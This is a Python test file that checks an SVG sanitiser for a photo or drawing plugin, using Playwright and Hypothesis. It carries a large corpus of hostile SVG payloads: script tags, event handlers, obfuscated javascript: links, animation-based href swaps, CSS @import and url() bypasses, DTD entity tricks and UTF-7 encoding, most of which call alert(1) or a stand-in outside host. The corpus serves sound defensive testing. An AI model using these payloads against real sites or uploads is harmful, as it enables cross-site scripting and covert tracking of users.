"""No way to a script or a third party through a drawing, opened by itself in a browser."""

import re
from base64 import b64encode
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import Browser, Dialog, Page, Route

from plugins.common.svg.reading import UnreadableError
from plugins.photos.drawings import clean
from tests.support import matrix
from tools.scan import svg as scanner

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events"'
    ' width="300" height="200"'
)
X = "alert(1)"
OUT = "https://boese.org/"


def as_data(content: str, kind: str = "image/svg+xml") -> str:
    return f"data:{kind};base64,{b64encode(content.encode()).decode()}"


EVIL = f'{HEAD} onload="{X}"><script>{X}</script><image href="{OUT}"/></svg>'
WITHIN = rf"""
<script>{X}</script>
<script href="{OUT}x.js"/>
<script xlink:href="data:text/javascript,{X}"/>
<SCRIPT>{X}</SCRIPT>
<h:script>{X}</h:script>
<g><defs><script type="text/ecmascript"><![CDATA[{X}]]></script></defs></g>
<metadata><h:script>{X}</h:script></metadata>
<desc><h:img src="{OUT}a" onerror="{X}"/></desc>
<title><h:iframe src="{OUT}"/></title>
<text><h:link rel="stylesheet" href="{OUT}a.css"/></text>
<style><h:script>{X}</h:script></style>
<foreignObject width="9" height="9"><h:iframe srcdoc="&lt;script&gt;parent.{X}&lt;/script&gt;"/></foreignObject>
<foreignObject width="9" height="9"><h:body><h:img src="x" onerror="{X}"/></h:body></foreignObject>
<foreignObject width="9" height="9"><h:object data="{OUT}"/><h:embed src="{OUT}"/></foreignObject>
<h:iframe src="javascript:{X}"/>
<h:meta http-equiv="refresh" content="0;url={OUT}"/>
<h:base href="{OUT}"/><image href="a.png" width="9" height="9"/>
<h:video src="{OUT}" autoplay="autoplay"/><h:audio src="{OUT}" onerror="{X}"/>
<video src="{OUT}" autoplay="autoplay"/><iframe src="{OUT}"/>
<rect width="300" height="200" onclick="{X}" onmouseover="{X}" onfocus="{X}"/>
<rect width="9" height="9" onload="{X}"/><image href="{as_data("x")}" onerror="{X}"/>
<animate onbegin="{X}" attributeName="x" dur="1s"/>
<set attributeName="x" to="1" onbegin="{X}" onend="{X}" dur="1s"/>
<g ev:event="load" ev:handler="#h"/><handler id="h" ev:event="load">{X}</handler>
<listener event="load" handler="#h"/>
<a href="javascript:{X}"><rect width="300" height="200"/></a>
<a xlink:href="javascript:{X}"><rect width="300" height="200"/></a>
<a href="&#9;java&#10;script&#x3a;{X}"><rect width="300" height="200"/></a>
<a href="&#x1;javascript:{X}"><rect width="300" height="200"/></a>
<a href="JaVaScRiPt:{X}"><rect width="300" height="200"/></a>
<a href="data:text/html,&lt;script&gt;{X}&lt;/script&gt;"><rect width="300" height="200"/></a>
<a href="vbscript:{X}"><rect width="300" height="200"/></a>
<a href="#x"><animate attributeName="href" values="javascript:{X}" begin="0s" fill="freeze"/><rect width="300" height="200"/></a>
<a href="#x"><set attributeName="xlink:href" to="javascript:{X}"/><rect width="300" height="200"/></a>
<a href="#x" id="l"><rect width="300" height="200"/></a><set href="#l" attributeName="href" to="javascript:{X}"/>
<a href="#x" id="k"><rect width="300" height="200"/></a><animate xlink:href="#k" attributeName="HREF" from="javascript:{X}" to="javascript:{X}" dur="9s"/>
<image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="{OUT}a.png"/>
<set attributeName="onload" to="{X}"/><animate attributeName="onclick" values="{X}"/>
<use href="{OUT}a.svg#x"/>
<use href="data:image/svg+xml,{quote(EVIL)}#x"/>
<use xlink:href="{as_data(EVIL)}#x"/>
<use href="x.svg#a"/>
<image href="{OUT}a.png" width="9" height="9"/>
<image xlink:href="//boese.org/a.png" width="9" height="9"/>
<image href="a.png" xlink:href="{OUT}a.png" width="9" height="9"/>
<image href=" &#10;{OUT}a.png" width="9" height="9"/>
<image href="{as_data(EVIL)}" width="9" height="9"/>
<image href="data:image/svg+xml,{quote(EVIL)}" width="9" height="9"/>
<image href="{as_data(EVIL, "image/png")}" width="9" height="9"/>
<image href="{as_data(f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{X}</script></html>', "text/html")}" width="9" height="9"/>
<filter id="f"><feImage href="{OUT}a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>
<filter id="f"><feImage xlink:href="{OUT}a.svg#x"/></filter><rect width="9" height="9" filter="url(#f)"/>
<rect width="9" height="9" fill="url({OUT}a.svg#x)" stroke="url('{OUT}b.svg#x')"/>
<rect width="9" height="9" mask="url(&quot;{OUT}a.svg#x&quot;)" clip-path="url( {OUT}b.svg#x )"/>
<rect width="9" height="9" filter="u\72l({OUT}a.svg#x)" cursor="url({OUT}c.cur), auto"/>
<rect width="9" height="9" style="fill:url({OUT}a.svg#x);background:url({OUT}b)"/>
<rect width="9" height="9" style="mask-image:\75rl({OUT}a)"/>
<rect width="9" height="9" style="mask-image:image-set('{OUT}a' 1x)"/>
<rect width="9" height="9" style="mask-image:-webkit-image-set('{OUT}a' 1x)"/>
<rect width="9" height="9" style="--a:url({OUT}a);mask-image:var(--a)"/>
<rect width="9" height="9" style="mask-image:cross-fade(url({OUT}a), url({OUT}b))"/>
<rect width="9" height="9" style="mask-image:url/**/({OUT}a);mask-image:u/**/rl({OUT}b)"/>
<rect width="9" height="9"><set attributeName="fill" to="url({OUT}a.svg#x)"/></rect>
<rect width="9" height="9"><animate attributeName="style" values="mask-image:url({OUT}a)" dur="1s"/></rect>
<rect width="9" height="9"><animate attributeName="mask" values="none;url({OUT}a#x)" dur="1s"/></rect>
<style>@import "{OUT}a.css";</style>
<style>@import url({OUT}a.css);rect{{x:1}}</style>
<style>@\69mport "{OUT}a.css";</style>
<style>@IMPORT/**/"{OUT}a.css";</style>
<style>/*</style><style>*/@import "{OUT}a.css";</style>
<style>a{{}}@import "{OUT}a.css";/* x */</style>
<style>&lt;!-- @import "{OUT}a.css"; --&gt;</style>
<style><![CDATA[@import "{OUT}a.css";]]></style>
<style>@im<!-- x -->port "{OUT}a.css";</style>
<style>@im<g/>port "{OUT}a.css";</style>
<style>@font-face{{font-family:a;src:url({OUT}a.woff2)}}text{{font-family:a}}</style><text>x</text>
<style>@font-face{{font-family:a;src:local(x),url('{OUT}a') format('woff2')}}text{{font:9px a}}</style><text>x</text>
<style>rect{{mask-image:url({OUT}a)}}</style><rect width="9" height="9"/>
<style>rect{{mask-image:url('data:image/svg+xml,{quote(EVIL)}')}}</style><rect width="9" height="9"/>
<style>@media all{{rect{{mask-image:url({OUT}a)}}}}</style><rect width="9" height="9"/>
<style>@supports (x:1){{rect{{mask-image:u\72 l({OUT}a)}}}}</style><rect width="9" height="9"/>
<style>rect{{x:"\</style><style>";mask-image:url({OUT}a)}}</style><rect width="9" height="9"/>
<style>rect{{x:"a
;mask-image:url({OUT}a)}}</style><rect width="9" height="9"/>
<style>rect{{&amp;{{mask-image:url({OUT}a)}}}}</style><rect width="9" height="9"/>
<style>rect{{mask-image:src("{OUT}a")}}</style><rect width="9" height="9"/>
<style>@namespace "{OUT}";@charset "x";@property --x{{syntax:'*';inherits:true;initial-value:url({OUT}a)}}rect{{mask-image:var(--x)}}</style><rect width="9" height="9"/>
<style>rect:hover{{cursor:url({OUT}a),auto}}</style><rect width="300" height="200"/>
<style>rect{{behavior:url({OUT}a);-moz-binding:url({OUT}b#x)}}</style><rect width="9" height="9"/>
<style media="all" type="text/css" href="{OUT}a.css" src="{OUT}a.css"/>
<link rel="stylesheet" href="{OUT}a.css"/>
<g style="x:1" xml:base="{OUT}"><image href="a.png" width="9" height="9"/></g>
<tref xlink:href="{OUT}a.svg#x"/><textPath xlink:href="{OUT}a.svg#x">x</textPath>
<linearGradient id="g" href="{OUT}a.svg#x"/><rect width="9" height="9" fill="url(#g)"/>
<animateMotion dur="1s"><mpath href="{OUT}a.svg#x"/></animateMotion>
<discard href="{OUT}"/><animation xlink:href="{OUT}"/><cursor xlink:href="{OUT}a.cur"/>
<font-face><font-face-src><font-face-uri xlink:href="{OUT}a"/></font-face-src></font-face>
<color-profile xlink:href="{OUT}a.icc" name="x"/><solidColor id="x"/>
<a href="#x" ping="{OUT}" download="x"><rect width="300" height="200"/></a>
<text>{{{{7*7}}}}&lt;script&gt;{X}&lt;/script&gt;</text>
"""
# A new line begins a new case where it begins with a tag at its very start.
CASES = [f"{HEAD}>{case}</svg>" for case in re.split(r"\n(?=<)", WITHIN.strip())] + [
    EVIL,
    f'<?xml-stylesheet href="{OUT}a.css"?>{HEAD}/>',
    f'<?xml-stylesheet type="text/xsl" href="{OUT}a.xsl"?>{HEAD}/>',
    f'<?xml-stylesheet type="text/xsl" href="{as_data("x", "text/xsl")}"?>{HEAD}/>',
    f'<!DOCTYPE svg SYSTEM "{OUT}a.dtd">{HEAD}/>',
    f'<!DOCTYPE svg [<!ENTITY a "&#60;script&#62;{X}&#60;/script&#62;">]>{HEAD}>&a;</svg>',
    f'<!DOCTYPE svg [<!ENTITY a "javascript:{X}">]>{HEAD}><a href="&a;"><rect width="300" height="200"/></a></svg>',
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{X}">]>{HEAD}/>',
    f'<!DOCTYPE svg [<!ATTLIST g xmlns CDATA #FIXED "http://www.w3.org/1999/xhtml">]>{HEAD}><g onclick="{X}"/></svg>',
    f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{X}</s:script></s:svg>',
    f'{HEAD}><g xmlns="http://www.w3.org/1999/xhtml"><script>{X}</script></g></svg>',
    f'<?xml version="1.0" encoding="utf-7"?>{HEAD}>+ADw-script+AD4-{X}+ADw-/script+AD4-</svg>',
]


@pytest.fixture
def opened(chrome: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page that shows whatever is put into its list's place, and what happened then."""
    happened: list[str] = []
    with chrome.new_context(viewport={"width": 300, "height": 200}) as context:

        def asked(route: Route) -> None:
            if not route.request.url.startswith("https://haus.test/datei"):
                happened.append(route.request.url)
                route.abort()
            else:
                route.fallback()

        context.route("**/*", asked)
        page = context.new_page()

        def asks(dialog: Dialog) -> None:
            happened.append("a script")
            dialog.dismiss()

        page.on("dialog", asks)
        context.on("page", lambda _: happened.append("a window"))
        yield page, happened


def happens(page: Page, happened: list[str], content: bytes) -> list[str]:
    """Return what a drawing does when it is opened, pointed at and clicked."""
    happened.clear()
    page.route(
        "https://haus.test/datei.svg",
        lambda route: route.fulfill(body=content, content_type="image/svg+xml"),
    )
    page.goto("https://haus.test/datei.svg")
    page.mouse.move(5, 5)
    page.mouse.click(5, 5)
    page.evaluate(
        "for (const one of document.querySelectorAll('*'))"
        " for (const kind of ['click', 'focus', 'mouseover', 'load', 'begin'])"
        " one.dispatchEvent(new MouseEvent(kind, {bubbles: true}))"
    )
    page.wait_for_function("() => new Promise(done => requestAnimationFrame(() => done(true)))")
    page.unroute("https://haus.test/datei.svg")
    return list(happened)


def test_the_browser_would_show_it(opened: tuple[Page, list[str]]) -> None:
    """Uncleaned, scripts run and others are asked: what the next test does not see is not there."""
    page, happened = opened
    for case in (
        CASES[0],
        CASES[19],
        f'{HEAD}><image href="{OUT}a.png" width="9" height="9"/></svg>',
    ):
        assert happens(page, happened, case.encode()), case


def published(cases: list[str]) -> Iterator[tuple[str, bytes]]:
    """Yield drawings that are not refused, and what is left of them."""
    for case in cases:
        with suppress(UnreadableError):
            yield case, clean(case.encode()).content


def test_the_scanner_finds_nothing() -> None:
    """Of every hostile drawing nothing is left that could act."""
    assert [case for case, cleaned in published(CASES) if scanner.findings(cleaned)] == []


@pytest.mark.parametrize("first", [0, *matrix(*range(1, 8))])
def test_nothing_runs_and_nobody_is_asked(opened: tuple[Page, list[str]], first: int) -> None:
    """Of a hostile drawing, opened, pointed at and clicked, nothing is left that acts."""
    page, happened = opened
    left = {}
    for case, cleaned in published(CASES[first::8]):
        if done := happens(page, happened, cleaned):
            left[case] = done
    assert left == {}


def test_every_loss_is_told() -> None:
    """No hostile drawing is changed without a word, but for what only a program reads."""
    silent = []
    for case in CASES:
        try:
            if not clean(case.encode()).left_out and (X in case or OUT in case):
                silent.append(case.removeprefix(f"{HEAD}>")[:10])
        except UnreadableError:
            continue
    assert len(CASES) > 100
    assert silent == ["<metadata>", '<a href="#', "<text>{{7*", "<!DOCTYPE "]


PIECES = re.findall(r"[<&@\\/\"'({;]|[\w:#.-]+|\s|[^\w\s]", WITHIN)


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_no_stylesheet_loads(text: str) -> None:
    """Whatever is put together of the pieces of hostile CSS, the scanner finds nothing in the rest."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    cleaned = clean(f"{HEAD}><style>{escaped}</style></svg>".encode())
    assert scanner.findings(cleaned.content) == []
    assert clean(cleaned.content).content == cleaned.content
